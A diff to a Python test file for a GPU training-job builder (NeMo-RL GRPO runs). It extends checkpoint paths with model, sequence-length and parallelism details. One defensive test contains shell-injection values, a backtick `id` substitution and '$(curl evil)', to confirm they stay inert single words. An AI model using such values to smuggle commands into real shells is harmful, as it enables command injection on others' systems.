@@ -74,7 +74,7 @@ def test_the_b200_stack_reproduces_the_codelab_command():
         "checkpointing.save_period=2",
         "checkpointing.keep_top_k=2",
         "checkpointing.metric_name=null",
-        "checkpointing.checkpoint_dir=/lustre/checkpoints/b200/qwen2.5-72b-deepscaler",
+        "checkpointing.checkpoint_dir=/lustre/checkpoints/b200/qwen2.5-72b-deepscaler/Qwen_Qwen2.5-72B-Instruct-seq4096-megatron-tp4-pp4",
         "data.dataset_name=DeepScaler",
         "logger.wandb_enabled=false",
         # The config file's parallelism (vLLM TP 8 in grpo_math_70B_megatron.yaml v0.4.0 ... v0.7.0, which
@@ -112,7 +112,7 @@ def test_the_h200_stack_reproduces_the_tutorial_command_with_generation_on_its_o
         "data.train.dataset_name=gsm8k",
         "++data.validation.dataset_name=gsm8k",
         "++data.validation.split=test",
-        "checkpointing.checkpoint_dir=/lustre/checkpoints/h200/gemma3-27b-gsm8k",
+        "checkpointing.checkpoint_dir=/lustre/checkpoints/h200/gemma3-27b-gsm8k/google_gemma-3-27b-it-seq16384-dtensor-tp8-pp1",
         "logger.log_dir=/lustre/logs/h200/gemma3-27b-gsm8k",
     }
     assert tutorial <= set(overrides(spec))
@@ -148,7 +148,7 @@ def test_hostile_values_stay_single_shell_words(monkeypatch):
     spec = build_job("qwen2.5-1.5b-gsm8k", job, pool("b200", 1), mount, hostile_stack, False)
     tokens = argv(spec)
     assert tokens[:2] == ["cd", "/opt/nemo-rl"]
-    assert f"checkpointing.checkpoint_dir=/mnt/it's `id`/checkpoints/{hostile_stack}/qwen2.5-1.5b-gsm8k" in tokens
+    assert f"checkpointing.checkpoint_dir=/mnt/it's `id`/checkpoints/{hostile_stack}/qwen2.5-1.5b-gsm8k/Qwen_Qwen2.5-1.5B-Instruct-seq512-dtensor-tp1-pp1" in tokens
     assert tokens[-2:] == list(user)  # the user's, last, verbatim
     assert "grpo.num_prompts_per_step=$(curl evil)" in tokens
     assert spec.runtime_env["env_vars"]["HF_HOME"] == "/mnt/it's `id`/hf-cache"
@@ -386,3 +386,22 @@ def test_a_pool_whose_data_parallel_size_does_not_divide_the_batch_is_refused_wi
     with pytest.raises(JobBuildError, match="does not divide policy.train_global_batch_size 250"):
         build_job(b200.recipe, b200.job.model_copy(update={"overrides": ("policy.train_global_batch_size=250",)}),
                   pool("b200", 8), "/lustre", "b200", False)
+
+
+def test_the_checkpoint_directory_changes_with_what_makes_checkpoints_incompatible_and_only_with_that():
+    import re
+
+    def ckpt_dir(stack: str, overrides=()) -> str:
+        cfg = cli.load_stack(stack).config
+        job = cfg.job.model_copy(update={"overrides": tuple(overrides)}) if overrides else cfg.job
+        spec = build_job(cfg.recipe, job, pool(cfg.flavour, cfg.gpu_pool.node_count), "/lustre", stack, False)
+        return re.search(r"checkpointing\.checkpoint_dir=(\S+)", spec.entrypoint).group(1)
+
+    base = ckpt_dir("h200")
+    assert base == "/lustre/checkpoints/h200/gemma3-27b-gsm8k/google_gemma-3-27b-it-seq16384-dtensor-tp8-pp1"
+    assert ckpt_dir("b200") == "/lustre/checkpoints/b200/qwen2.5-72b-deepscaler/Qwen_Qwen2.5-72B-Instruct-seq4096-megatron-tp4-pp4"
+    # Another sequence length or model: a new directory, never a resume from the old checkpoints.
+    assert ckpt_dir("h200", ["policy.max_total_sequence_length=8192"]).endswith("-seq8192-dtensor-tp8-pp1")
+    assert "/Qwen_Qwen2.5-7B-Instruct-seq512-" in ckpt_dir("dev", ["policy.model_name=Qwen/Qwen2.5-7B-Instruct"])
+    # What does not change the checkpoint's shape resumes where the run was.
+    assert ckpt_dir("h200", ["grpo.num_prompts_per_step=8"]) == base
